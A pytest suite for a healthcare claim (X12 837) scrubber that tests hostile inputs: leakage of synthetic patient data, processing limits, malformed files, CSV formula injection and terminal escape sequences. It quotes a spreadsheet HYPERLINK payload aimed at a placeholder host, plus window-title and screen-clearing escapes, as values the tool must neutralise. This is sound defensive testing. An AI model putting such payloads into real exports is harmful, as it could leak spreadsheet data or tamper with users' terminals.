"""Hostile content: shifted person values, new safety limits, nested levels, stray segments,
spreadsheet formulas and terminal escapes, and the odd starts of a file.

The inputs come from ``../shared/repro/`` (skipped where absent) and from ``bench/hostile.py``
(small versions of the large inputs ``bench/memory.py`` measures at full size).
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import ROOT, SHARED, fixture, problem_lines, run_cli

sys.path.insert(0, str(ROOT / "bench"))

import hostile  # noqa: E402

from scrubber.cli.app import cli  # noqa: E402
from scrubber.run.parallel import plan  # noqa: E402
from scrubber.x12.model import Claim, walk  # noqa: E402
from scrubber.x12.reader import read_segments  # noqa: E402

REPRO = SHARED / "repro"
AS_OF = "2025-06-01"


def need_repro() -> Path:
    if not (REPRO / "phi_shift").is_dir():
        pytest.skip(f"../shared/repro is absent ({REPRO})")
    return REPRO


def invoke(*args) -> tuple[int, str]:
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    return result.exit_code, result.output


def scrub_with(tmp_path: Path, path: Path, limits: str = "", *extra) -> tuple[int, dict, str]:
    args = ["scrub", path, "--out-dir", tmp_path / "out", "--as-of", AS_OF, *extra]
    if limits:
        cfg = tmp_path / "scrubber.toml"
        cfg.write_text(f"[limits]\n{limits}\n")
        args += ["--config", cfg]
    code, out = invoke(*args)
    report = json.loads((tmp_path / "out" / f"{path.stem}.report.json").read_text(encoding="utf-8"))
    return code, report, out


# ---- person values shifted into other elements -------------------------------------------------

# The synthetic people of the repro files: names, member ids, birth dates, addresses, an SSN.
SECRETS = ["TESTPATIENT", "SAMPLEPERSON", "BRAVO", "ZZM0000000", "19710215", "20110601", "19730415",
           "19710230", "20990215", "101 SAMPLE ST", "102 SAMPLE ST", "SAMPLETOWN"]
SSN = re.compile(r"(?<![0-9])123456789(?![0-9])")


def leaks(text: str) -> list[str]:
    found = [s for s in SECRETS if s in text]
    return found + (["123456789"] if SSN.search(text) else [])


def test_shifted_person_values_reach_no_report_or_view(tmp_path):
    files = sorted((need_repro() / "phi_shift").glob("*.837"))
    assert len(files) >= 10
    everything = "".join(p.read_text(encoding="latin-1") for p in files)
    assert set(leaks(everything)) == set(SECRETS) | {"123456789"}, "the inputs carry every value looked for"
    for fmt in ("json", "csv", "text", "html"):
        out = tmp_path / fmt
        code, stdout = invoke("scrub", *files, "--out-dir", out, "--as-of", AS_OF, "--format", fmt)
        assert code in (1, 2), stdout
        written = {p.name: p.read_text(encoding="utf-8") for p in out.iterdir() if not p.name.endswith(".837")}
        written["<stdout>"] = stdout
        found = {(name, s) for name, text in written.items() for s in leaks(text)}
        assert not found, (fmt, sorted(found)[:8])
    for path in files:
        code, stdout = invoke("explain", path, "--all", "--as-of", AS_OF)
        assert code == 0, stdout
        assert not leaks(stdout), (path.name, leaks(stdout))


def test_invalid_code_in_a_person_segment_is_described_not_quoted(tmp_path):
    path = need_repro() / "phi_shift" / "nm108_109_swapped.837"
    code, report, _ = scrub_with(tmp_path, path)
    sx008 = [f for c in report["claims"] for f in c["findings"] if f["rule"] == "SX008"]
    assert sx008 and all(f["value"] is None for f in sx008)
    assert any(f["message"].startswith("an 11-character value is not a valid code for NM108") for f in sx008), sx008
    # Outside such segments a wrong code is still quoted, as the 999 needs it.
    data = fixture("clean_single.837").read_bytes().replace(b"*11:B:1*", b"*AA:B:1*")
    bad = tmp_path / "pos.837"
    bad.write_bytes(data)
    code, report, _ = scrub_with(tmp_path, bad)
    assert any(f["rule"] == "SX008" and f["value"] == "AA" for c in report["claims"] for f in c["findings"])
    # A value too long to quote (found by tools/fuzz.py: a 300,000-digit one) is described.
    bad.write_bytes(data.replace(b"*AA:B:1*", b"*" + b"9" * 40 + b":B:1*"))
    code, report, _ = scrub_with(tmp_path, bad)
    sx008 = [f for c in report["claims"] for f in c["findings"] if f["rule"] == "SX008"]
    assert sx008 and sx008[0]["message"].startswith("a 40-character value is not a valid code for CLM05-1"), sx008


# ---- the new limits (small versions of bench/memory.py's inputs) --------------------------------

def assert_unusable(code: int, report: dict, words: str) -> None:
    assert code == 2
    assert report["status"] == "unusable" and report["findings"][-1]["rule"] == "EN013", report["findings"][-3:]
    assert words in report["findings"][-1]["message"]


@pytest.mark.parametrize("kind,n,limits,words", [
    ("nm1_loop", 60, "loop_segments = 50", "2000B loop of HL 2 has more than 50 segments"),
    ("ref_2010aa", 60, "loop_segments = 50", "2000A loop of HL 1 has more than 50 segments"),
    ("sv107_components", 80, "", "more than 64 components"),
    ("empty_st", 30, "envelopes = 20", "more than 20 interchanges, groups and transaction sets"),
    ("empty_isa", 30, "envelopes = 20", "more than 20 interchanges, groups and transaction sets"),
    ("big_segments", 3, "claim_bytes = 100000", "larger than 100000 bytes"),
    ("empty_st", 30, "structure_errors = 40", "more than 40 structural errors"),
])
def test_limit(tmp_path, kind, n, limits, words):
    path = hostile.KINDS[kind](tmp_path / f"{kind}.837", n) if kind != "big_segments" else \
        hostile.big_segments(tmp_path / f"{kind}.837", n, 50_000)
    code, report, out = scrub_with(tmp_path, path, limits)
    assert_unusable(code, report, words)
    assert not (tmp_path / "out" / f"{kind}.clean.837").exists()


def test_within_the_limits_the_same_inputs_are_scrubbed(tmp_path):
    path = hostile.nm1_loop(tmp_path / "nm1_loop.837", 40)
    code, report, _ = scrub_with(tmp_path, path, "loop_segments = 50")
    assert code == 1 and report["status"] == "rejections"


def test_findings_past_the_claim_limit_are_summarised_and_the_verdict_kept(tmp_path):
    path = hostile.sv107_components(tmp_path / "many.837", 40)  # 2 x 40 pointers: ~80 DP005
    code, full, _ = scrub_with(tmp_path, path)
    (tmp_path / "out").rename(tmp_path / "full")
    code_cut, cut, _ = scrub_with(tmp_path, path, "claim_findings = 5")
    assert code == code_cut == 1
    listed = full["claims"][0]["findings"]
    kept = cut["claims"][0]["findings"]
    assert len(listed) > 6 and len(kept) == 6
    assert kept[:5] == listed[:5]
    summary = kept[5]
    assert summary["rule"] == "EN106" and summary["severity"] == "error"
    assert summary["message"].startswith(f"{len(listed) - 5} more findings of this claim not listed")
    assert cut["claims"][0]["status"] == "rejected"
    assert cut["summary"] == full["summary"], "the counts count every finding"


def test_top_level_findings_past_the_file_limit_are_summarised(tmp_path):
    path = hostile.empty_st(tmp_path / "st.837", 30)  # 30 x (EN101 + SX002 x2) at the top level
    code, full, _ = scrub_with(tmp_path, path)
    (tmp_path / "out").rename(tmp_path / "full")
    code_cut, cut, _ = scrub_with(tmp_path, path, "file_findings = 10")
    assert code == code_cut == 0
    assert len(full["findings"]) > 11 and len(cut["findings"]) == 11
    assert cut["findings"][:10] == full["findings"][:10]
    summary = cut["findings"][10]
    assert summary["rule"] == "EN106" and f"{len(full['findings']) - 10} more findings" in summary["message"]
    assert summary["severity"] == "error"  # SX002 errors among those left out


# ---- nested hierarchical levels -----------------------------------------------------------------

def test_nested_levels_do_not_keep_the_chain_alive(tmp_path):
    """Subscribers each the child of the previous one: a claim holds its own loops, not the chain."""
    path = hostile.nested_hl(tmp_path / "nested.837", 300)
    claims = [e for e in walk(read_segments(path)) if isinstance(e, Claim)]
    assert len(claims) == 1
    sub = claims[0].subscriber
    assert sub.hl_id == "301" and sub.parent is None
    assert claims[0].billing is not None and claims[0].billing.hl_id == "1"


def test_nested_levels_take_linear_time(tmp_path):
    from scrubber.check.structure import validate_structure
    from scrubber.limits import Limits

    small, large = hostile.nested_hl(tmp_path / "s.837", 4_000), hostile.nested_hl(tmp_path / "l.837", 32_000)
    validate_structure(fixture("sample.837"), Limits())  # the maps compiled first

    def seconds(path):
        start = time.perf_counter()
        validate_structure(path, Limits())
        return time.perf_counter() - start

    ratio = min(seconds(large) for _ in range(2)) / min(seconds(small) for _ in range(2))
    assert ratio < 16, f"8 times the levels took {ratio:.1f} times as long"


# ---- --jobs and a stray segment between transaction sets -----------------------------------------

def test_byte_scan_sees_a_stray_segment_between_transaction_sets(tmp_path):
    assert plan(hostile.stray_segment(tmp_path / "plain.837", 40, stray=False)) is not None
    assert plan(hostile.stray_segment(tmp_path / "stray.837", 40)) is None


def test_jobs_gives_the_single_process_answer_on_a_stray_segment(tmp_path):
    path = hostile.stray_segment(tmp_path / "stray.837", 12_000)
    assert path.stat().st_size > 4 << 20  # large enough to be split
    result = run_cli("scrub", path, "--out-dir", tmp_path / "out", "--jobs", "2", "--as-of", AS_OF)
    assert result.returncode == 2, result.stdout[-500:]
    lines = problem_lines(result.stderr)
    assert len(lines) == 1 and lines[0].startswith(f"scrubber: {path}: unusable: segment 'REF' at byte "), lines
    assert "stands outside a transaction set" in result.stderr
    assert not (tmp_path / "out" / "stray.clean.837").exists()


# ---- spreadsheet formulas and terminal escapes ---------------------------------------------------

def test_csv_cells_are_never_formulas_and_control_characters_are_escaped(tmp_path):
    path = need_repro() / "csv_formula_and_terminal_escape_clm01.837"
    code, out = invoke("scrub", path, "--out-dir", tmp_path, "--as-of", AS_OF, "--format", "csv")
    assert code == 1
    for text in (out, (tmp_path / f"{path.stem}.report.csv").read_text(encoding="utf-8")):
        assert "\x1b" not in text and "\x07" not in text
        rows = [row for row in csv.reader(io.StringIO(text)) if row and not row[0].startswith("scrubber: ")]
        ids = {row[1] for row in rows}
        assert "'=HYPERLINK(\"http://x.invalid/?\"&A1)" in ids
        assert any(i.startswith("\\x1b]0;TITLE\\x07") for i in ids), ids
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)


def test_text_summary_and_explain_print_control_characters_as_escapes(tmp_path):
    path = need_repro() / "csv_formula_and_terminal_escape_clm01.837"
    code, text = invoke("scrub", path, "--out-dir", tmp_path, "--as-of", AS_OF)
    assert code == 1 and "REJECTED \\x1b]0;TITLE\\x07\\x1b[2J" in text
    code, listing = invoke("explain", path, "--as-of", AS_OF)
    code2, claims = invoke("explain", path, "--rejected", "--as-of", AS_OF, "--color")
    assert code == code2 == 0
    for out in (text, listing, claims):
        assert "\x07" not in out and "\x1b]" not in out and "\x1b[2J" not in out
    assert "\\x1b]0;TITLE" in listing and "\\x1b]0;TITLE" in claims
    assert "\x1b[" in claims, "the explanation's own colours stay"


# ---- the start of a file -------------------------------------------------------------------------

def test_blanks_then_text_is_not_an_empty_file(tmp_path):
    path = tmp_path / "spaces.837"
    path.write_bytes(b" " * (1 << 20) + b"\n  X")
    code, report, _ = scrub_with(tmp_path, path)
    assert code == 2 and report["findings"][-1]["rule"] == "EN002"
    path.write_bytes(b" " * (3 << 20))
    code, report, _ = scrub_with(tmp_path, path)
    assert code == 2 and report["findings"][-1]["rule"] == "EN001"


def test_nul_bytes_are_not_utf16(tmp_path):
    path = tmp_path / "nul.837"
    path.write_bytes(b"\x00" * 4096)
    code, report, _ = scrub_with(tmp_path, path)
    fatal = report["findings"][-1]
    assert code == 2 and fatal["rule"] == "EN005" and "NUL byte at byte 0" in fatal["message"]
    path.write_bytes(fixture("clean_single.837").read_bytes().decode("latin-1").encode("utf-16-le"))
    code, report, _ = scrub_with(tmp_path, path)
    assert code == 2 and "UTF-16" in report["findings"][-1]["message"]


def test_isa_terminator_equal_to_its_component_separator_is_refused(tmp_path):
    data = fixture("clean_single.837").read_bytes()
    assert data[104:106] == b":~"
    path = tmp_path / "same.837"
    path.write_bytes(data[:104] + b"~~" + data[106:])
    code, report, _ = scrub_with(tmp_path, path)
    assert code == 2 and report["findings"][-1]["rule"] == "EN003"
    assert "delimiters are not usable" in report["findings"][-1]["message"]


def test_memory_bench_prints_each_peak_against_a_baseline():
    import subprocess

    r = subprocess.run([sys.executable, str(ROOT / "bench" / "memory.py"), "--scale", "0.0005",
                        "--only", "sv107_components"], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stdout + r.stderr
    assert re.search(r"^baseline: 40 claims +[0-9.]+ +[0-9.]+ +[0-9.]+ +1\.00 +0 +clean", r.stdout, re.M), r.stdout
    assert re.search(r"^two SV107 of 500,000 components \(x0.0005: 250\) .* 2 +unusable", r.stdout, re.M), r.stdout
    assert re.search(r"^highest peak: [0-9.]+ MB \(limit 300 MB\)$", r.stdout, re.M), r.stdout


def test_a_broken_terminator_quotes_no_rest_of_the_file(tmp_path):
    """Found by tools/fuzz.py: terminators changed after the ST made ST03 hold the rest of the
    file, and the EN007 message quoted it (names and member ids included)."""
    data = fixture("clean_single.837").read_bytes()
    at = data.index(b"ST*837*0001*005010X222A1") + len(b"ST*837*0001*005010X222A1")
    path = tmp_path / "term.837"
    path.write_bytes(data[:at] + data[at:].replace(b"~", b"\n\n").replace(b"*", b"|"))
    code, report, _ = scrub_with(tmp_path, path)
    fatal = report["findings"][-1]
    assert code == 2 and fatal["rule"] == "EN007", fatal
    text = json.dumps(report)
    assert "TESTPATIENT" not in text and "ZZM00000001" not in text
    assert len(fatal["message"]) < 200, fatal["message"]


# ---- segments run together, element separators lost ----------------------------------------------

def _every_output(tmp_path: Path, path: Path) -> dict[str, str]:
    """Scrub ``path`` with every report format and both acks; the text of each report-like output."""
    out = tmp_path / "out"
    texts = {}
    for fmt in ("json", "csv", "html", "text"):
        code, shown = invoke("scrub", path, "--out-dir", out, "--as-of", AS_OF, "--format", fmt,
                             "--ack", "999", "--ack", "277ca")
        assert code in (1, 2), shown
        texts[f"stdout-{fmt}"] = shown
    for p in out.iterdir():
        if p.suffix not in (".837", ".999", ".edi"):  # (claims and acks carry the claims' data by design)
            texts[p.name] = p.read_text(encoding="utf-8", errors="replace")
    return texts


@pytest.mark.parametrize("damage", ["terminator", "element-separator", "segment-id"])
def test_damaged_segments_quote_no_person_value(tmp_path, damage):
    """A lost terminator runs SBR and the subscriber's NM1 together; a wrong element separator
    makes a segment's whole text its "id"; a mangled id (ONM1) is no segment the 837P has: no
    report, listing or page shows the person values they carry."""
    data = fixture("sample.837").read_bytes()
    sbr_nm1 = b"SBR*P*18*GRP00001******CI~\nNM1*IL*1*TESTPATIENT*BRAVO****MI*ZZM00000001~"
    assert sbr_nm1 in data
    if damage == "terminator":
        data = data.replace(sbr_nm1, sbr_nm1.replace(b"CI~", b"CI\xf9", 1), 1)
    elif damage == "element-separator":
        data = data.replace(sbr_nm1, sbr_nm1.replace(b"*", b"^"), 1).replace(b"\nNM1^IL", b"NM1^IL", 1)
    else:
        data = data.replace(b"\nNM1*IL*1*TESTPATIENT", b"\nONM1*IL*1*TESTPATIENT", 1)
    path = tmp_path / f"{damage}.837"
    path.write_bytes(data)
    for name, text in _every_output(tmp_path, path).items():
        assert not leaks(text), (name, leaks(text))


def test_csv_cells_are_cut_at_a_spreadsheets_limit():
    from scrubber.report.safe import CELL_MAX, csv_cell

    cell = csv_cell("X" * (CELL_MAX + 5000))
    assert cell.startswith("X" * CELL_MAX) and "5000 more characters" in cell and len(cell) < CELL_MAX + 80
    assert csv_cell("SV1") == "SV1"


def test_excludes1_pairs_look_at_the_twelve_hi_positions_only(tmp_path):
    """A claim with thousands of diagnosis codes (DX003 rejects it) keeps the back-pain pair check
    to the twelve positions a line can point at: its pairs do not grow as the square of the codes."""
    data = fixture("sample.837").read_bytes()
    first_hi = b"HI*ABK:M5450*ABF:M546~\n"
    assert first_hi in data
    codes = ["M5441", "M5450"] * 1500  # M54.5 Excludes1 M54.4-: every M5441 pairs with every M5450
    hi = b"".join(("HI*" + "*".join(f"{'ABK' if i == 0 and k == 0 else 'ABF'}:{c}"
                                    for k, c in enumerate(codes[i:i + 12])) + "~\n").encode()
                  for i in range(0, len(codes), 12))
    path = tmp_path / "many_codes.837"
    path.write_bytes(data.replace(first_hi, hi, 1))
    code, report, _ = scrub_with(tmp_path, path, "", "--no-structure")
    assert code == 1
    claim = report["claims"][0]
    rules = [f["rule"] for f in claim["findings"]]
    assert "DX003" in rules and claim["status"] == "rejected"
    assert 0 < rules.count("BP003") <= 12 * 11 // 2
